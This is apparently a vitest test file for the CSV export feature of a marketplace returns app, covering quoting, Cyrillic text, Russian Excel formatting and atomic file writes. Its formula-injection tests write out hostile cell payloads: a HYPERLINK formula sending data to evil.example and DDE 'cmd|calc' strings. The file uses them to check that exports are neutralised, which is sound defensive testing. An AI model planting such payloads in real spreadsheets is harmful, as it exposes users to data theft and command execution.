// CSV exports re-read and compared: BOM, RFC 4180 quoting, Cyrillic; files appear whole or not at all.
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { channels, type ChannelName, type ParsedArgs } from '../../../preload/contract.ts';
import { createAnalyticsHandlers } from '../../../main/ipc/handlers-analytics.ts';
import type { HandlerContext } from '../../../main/ipc/router.ts';
import { silentLogger } from '../../../main/log.ts';
import { MarketClient } from '../../../main/market/client.ts';
import { Outbox } from '../../../main/outbox/outbox.ts';
import { freeName, writeFileAtomic } from '../../../main/reports/atomic.ts';
import { parseCsv, toCsv } from '../../../main/reports/csv.ts';
import { FileTargets } from '../../../main/reports/files.ts';
import { ReportRunner } from '../../../main/reports/united-returns.ts';
import { createAnalyticsReader, createReturnsReader } from '../../../main/returns/reader.ts';
import type { Store } from '../../../main/store/store.ts';
import { NOW, seededStore } from '../analytics/seed.ts';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
let dir: string;
let store: Store;
let handlers: ReturnType<typeof createAnalyticsHandlers>;
let depsOf: () => Parameters<typeof createAnalyticsHandlers>[0];
const context = { sender: { transport: 'websocket', id: 't', origin: 'http://127.0.0.1', mainFrame: true } } as HandlerContext;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'rd-exports-'));
  store = seededStore();
  // Never started: only its audit export is used.
  const outbox = new Outbox({ store, client: new MarketClient({ apiKey: 'unused-key', baseUrl: 'http://127.0.0.1:9', logger: silentLogger }) });
  const files = new FileTargets(dir, null);
  depsOf = () => ({
    returns: createReturnsReader(store),
    analytics: createAnalyticsReader(store),
    session: () => ({ outbox }),
    files,
    reports: new ReportRunner({
      client: () => {
        throw new Error('no reports here');
      },
      businessOf: () => 1,
      files,
      emit: () => undefined,
      logger: silentLogger,
    }),
    now: () => NOW,
  });
  handlers = createAnalyticsHandlers(depsOf());
  const audit = store.db.prepare(
    'INSERT INTO decision_audit (at, operator, return_id, order_id, campaign_id, outbox_id, action, state, items, payload, server_answer) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)',
  );
  audit.run(NOW - 1000, 'Анна "Смена 1", Иванова', 1, 1001, 101, 1, 'queued', 'queued', 'SKU-A: REFUND_MONEY', '{"a":1}', null);
  audit.run(NOW, 'Пётр', 1, 1001, 101, 1, 'delivered', 'delivered', null, null, 'OK\nвторая строка');
});
afterEach(() => {
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

async function call<C extends Extract<ChannelName, `exports.${string}`>>(channel: C, args: unknown) {
  const parsed = channels[channel].args.parse(args) as ParsedArgs<C>;
  const handler = handlers[channel] as (a: ParsedArgs<C>, c: HandlerContext) => Promise<{ path: string; rows: number; bytes: number }>;
  return handler(parsed, context);
}

function reread(path: string): { raw: Buffer; rows: string[][] } {
  const raw = readFileSync(path);
  return { raw, rows: parseCsv(raw.toString('utf8')) };
}

describe('CSV', () => {
  it('BOM, CRLF, RFC 4180 quoting, Cyrillic kept, and it reads back the same', () => {
    const values = [['Чайник «Заря»', 'a,b', 'say "hi"', 'line\r\nbreak', ' edge ', '', 42, null]];
    const text = toCsv(['имя', 'comma', 'quote', 'newline', 'spaces', 'empty', 'number', 'null'], values);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toContain('"a,b","say ""hi""","line\r\nbreak"," edge ",,42,\r\n');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text)).toEqual([
      ['имя', 'comma', 'quote', 'newline', 'spaces', 'empty', 'number', 'null'],
      ['Чайник «Заря»', 'a,b', 'say "hi"', 'line\r\nbreak', ' edge ', '', '42', ''],
    ]);
  });
});

describe('formula injection (OWASP CSV injection)', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Открыть")';
  const hostile = [HYPERLINK, "+cmd|' /C calc'!A0", '-2+3+cmd|calc', '@SUM(1+1)*cmd|calc', '\t=1+1', '\r=1+1'];
  const dangerous = /^[=+\-@\t\r]/;

  it('a cell starting with = + - @ tab or CR gets a leading apostrophe; numbers stay numbers', () => {
    const text = toCsv(['value', 'number'], [...hostile.map((h) => [h, -5]), ['plain', 1.5]]);
    const rows = parseCsv(text).slice(1);
    expect(rows.map((r) => r[0])).toEqual([...hostile.map((h) => `'${h}`), 'plain']);
    expect(rows.map((r) => r[1])).toEqual([...hostile.map(() => '-5'), '1.5']);
  });

  it('no export carries a live formula: store, offer, operator names and server answers', async () => {
    // Names that come from the Market or from the operator, made hostile.
    store.db.prepare('UPDATE campaigns SET domain = ?, business_name = ?').run(HYPERLINK, hostile[1]!);
    store.db.prepare('UPDATE order_items SET offer_name = ?').run(hostile[3]!);
    store.db.prepare('UPDATE orders SET raw_json = replace(raw_json, ?, ?)').run('Чайник «Заря»', hostile[3]!);
    store.db.prepare('UPDATE return_items SET shop_sku = ? WHERE shop_sku = ?').run(hostile[2]!, 'SKU-B');
    store.db.prepare('UPDATE decision_audit SET operator = ?, server_answer = ?').run(hostile[4]!, hostile[5]!);
    const query = { from: '2025-03-01', to: '2025-03-07' };
    const files = [
      (await call('exports.inbox', { filter: {} })).path,
      (await call('exports.audit', {})).path,
      ...(await Promise.all(
        (['timeline', 'reasons', 'topSkus', 'decisionMix', 'timeToDecision', 'deadlines', 'stores', 'money'] as const).map(
          async (table) => (await call('exports.analytics', { query, table })).path,
        ),
      )),
    ];
    const cells = files.flatMap((file) => reread(file).rows.flat());
    expect(cells.filter((cell) => dangerous.test(cell))).toEqual([]);
    // The hostile texts are there, as text: nothing was dropped.
    for (const h of [HYPERLINK, hostile[2]!, hostile[3]!, hostile[4]!, hostile[5]!]) expect(cells, h).toContain(`'${h}`);
  });
});

describe('exports', () => {
  it('the inbox under the current filter', async () => {
    const result = await call('exports.inbox', { filter: { campaignIds: [101], returnType: 'RETURN' } });
    expect(result.path.startsWith(join(dir, 'reports'))).toBe(true);
    const { raw, rows } = reread(result.path);
    expect(raw.subarray(0, 3)).toEqual(BOM);
    expect(result.bytes).toBe(raw.length);
    expect(rows[0]?.slice(0, 4)).toEqual(['Return', 'Order', 'Store ID', 'Store']);
    const ids = rows
      .slice(1)
      .map((r) => Number(r[0]))
      .sort();
    expect(ids).toEqual([1, 2, 5, 6]);
    expect(result.rows).toBe(4);
    expect(new Set(rows.slice(1).map((r) => r[3]))).toEqual(new Set(['Техно Дом FBS']));
    // A reversed date range is refused by the contract before anything is written.
    expect(() => channels['exports.inbox'].args.parse({ filter: { createdFrom: '2025-03-07', createdTo: '2025-03-01' } })).toThrow(
      /end date is before the start date/,
    );
  });

  it('the audit log, quotes and line breaks in fields kept', async () => {
    const result = await call('exports.audit', {});
    const { raw, rows } = reread(result.path);
    expect(raw.subarray(0, 3)).toEqual(BOM);
    expect(result.rows).toBe(2);
    expect(rows[1]?.[2]).toBe('Анна "Смена 1", Иванова');
    expect(rows[2]?.[11]).toBe('OK\nвторая строка');
  });

  it('each analytics table, and money per order', async () => {
    const query = { from: '2025-03-01', to: '2025-03-07' };
    const top = reread((await call('exports.analytics', { query, table: 'topSkus' })).path).rows;
    expect(top).toEqual([
      ['SKU', 'Product', 'Returns', 'Units', 'Refund amount, RUB'],
      ['SKU-A', 'Чайник «Заря»', '3', '3', '2550'],
      ['SKU-C', 'Ботинки', '2', '2', '650'],
      ['SKU-B', 'Кружка, 2 шт.', '1', '2', '500'],
      ['SKU-D', '', '1', '1', '2000'],
    ]);
    const money = reread((await call('exports.analytics', { query, table: 'money' })).path).rows;
    expect(money[0]).toEqual(['Order', 'Store ID', 'Returns', 'Order cost, RUB', 'Refund amount, RUB', 'Remains, RUB', 'Awaiting decision']);
    expect(money.slice(1).map((r) => r[0])).toEqual(['1001', '1003', '1004', '1006', '1007']);
    expect(money[1]).toEqual(['1001', '101', '3', '3000', '1750', '1250', 'yes']);
    for (const table of ['timeline', 'reasons', 'decisionMix', 'timeToDecision', 'deadlines', 'stores'] as const) {
      const result = await call('exports.analytics', { query, table });
      expect(readFileSync(result.path).subarray(0, 3)).toEqual(BOM);
      expect(result.rows).toBeGreaterThan(0);
    }
    const deadlines = reread(
      readdirSync(join(dir, 'reports'))
        .map((f) => join(dir, 'reports', f))
        .find((f) => f.includes('analytics-deadlines'))!,
    ).rows;
    expect(deadlines.slice(1).map((r) => [r[0], r[6]])).toEqual([
      ['2', 'Auto-confirmed by the Market'],
      ['7', 'Delivered after the deadline'],
      ['6', 'Still waiting after the deadline'],
    ]);
  });

  it('as Russian Excel opens it: ";" between fields, Russian headings, words for codes, Moscow times, decimal commas', async () => {
    handlers = createAnalyticsHandlers({ ...depsOf(), locale: () => 'ru' });
    const inbox = readFileSync((await call('exports.inbox', { filter: {} })).path, 'utf8');
    const header = inbox.slice(1).split('\r\n')[0]!;
    expect(header.split(';').slice(0, 11)).toEqual([
      'Возврат',
      'Заказ',
      'ID магазина',
      'Магазин',
      'Модель работы',
      'Тип',
      'Статус возврата денег',
      'Статус передачи',
      'Создан (МСК)',
      'Обновлён (МСК)',
      'Решить до (МСК)',
    ]);
    const rows = parseCsv(inbox, ';');
    const first = rows.find((r) => r[0] === '1')!;
    // RefundStatusType "PREMODERATION_DECISION_WAITING — ожидает решения (FBY, FBS и Экспресс)": the word, not the code.
    expect(first[5]).toBe('Возврат');
    expect(
      rows
        .slice(1)
        .map((r) => r[6])
        .join(),
    ).not.toMatch(/[A-Z]{4,}_[A-Z]/);
    // ReturnDTO.creationDate is "ISO 8601 со смещением относительно UTC": written as a Moscow time Excel reads.
    expect(first[8]).toMatch(/^\d{2}\.\d{2}\.\d{4} \d{2}:\d{2}$/);
    expect(first[13]).toMatch(/^(да|нет)$/);
    const audit = parseCsv(readFileSync((await call('exports.audit', {})).path, 'utf8'), ';');
    expect(audit[0]!.slice(0, 3)).toEqual(['Запись', 'Время (МСК)', 'Оператор']);
    expect(audit[1]![7]).toBe('поставлено в очередь');
    expect(audit[2]![8]).toBe('доставлено');
    const stores = parseCsv(
      readFileSync((await call('exports.analytics', { query: { from: '2025-03-01', to: '2025-03-07' }, table: 'reasons' })).path, 'utf8'),
      ';',
    );
    expect(stores[0]).toEqual(['Причина', 'Подробности', 'Товаров', 'Штук', 'Сумма возвратов, ₽']);
    expect(stores.slice(1).every((r) => !/^[A-Z_]+$/.test(r[0]!))).toBe(true);
    // The formula guard holds with the Russian separator too.
    store.db.prepare('UPDATE campaigns SET domain = ?').run('=1+1;2');
    const guarded = parseCsv(readFileSync((await call('exports.inbox', { filter: {} })).path, 'utf8'), ';');
    expect(guarded.slice(1).map((r) => r[3])).toContain("'=1+1;2");
    expect(toCsv(['a'], [[1990.5]], 'ru')).toBe('\uFEFFa\r\n1990,5\r\n');
  });

  it('two exports in the same second get two files', async () => {
    const a = await call('exports.audit', {});
    const b = await call('exports.audit', {});
    expect(a.path).not.toBe(b.path);
    expect(b.path).toMatch(/ \(2\)\.csv$/);
  });

  it('refuses a folder that was not chosen in the dialog', async () => {
    await expect(call('exports.audit', { folder: '/tmp' })).rejects.toThrow(/^folder: /);
  });
});

describe('atomic writes', () => {
  it('an export interrupted mid-way leaves no file and no temporary', async () => {
    const target = join(dir, 'half.csv');
    await expect(
      writeFileAtomic(target, async (write) => {
        await write('\uFEFFa,b\r\n');
        throw new Error('disk unplugged');
      }),
    ).rejects.toThrow('disk unplugged');
    expect(readdirSync(dir)).toEqual([]);
  });

  it('an existing file is never overwritten by a new export', async () => {
    writeFileSync(join(dir, 'x.csv'), 'old');
    const path = await freeName(dir, 'x.csv');
    expect(path).toBe(join(dir, 'x (2).csv'));
    await writeFileAtomic(path, 'new');
    expect(readFileSync(join(dir, 'x.csv'), 'utf8')).toBe('old');
    expect(readdirSync(dir).sort()).toEqual(['x (2).csv', 'x.csv']);
  });
});
